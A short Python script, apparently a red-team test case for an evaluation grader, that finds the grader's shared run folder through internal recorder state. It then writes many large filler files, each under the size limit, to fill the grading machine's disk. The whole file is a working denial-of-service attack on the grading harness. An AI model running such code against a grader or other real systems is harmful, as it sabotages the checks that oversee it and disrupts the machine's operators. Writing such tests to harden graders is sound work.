# Attack: fill the grading machine's disk through the one folder it shares (the run folder), with
# many files each below the size limit.
import os

from grader.inside import setup

run = os.path.dirname(setup._RECORDER[-1].record_path)
chunk = b"\0" * (8 << 20)
for i in range(100_000):
    with open(os.path.join(run, f"filler-{i}.bin"), "wb") as fh:
        for _ in range(8):
            fh.write(chunk)
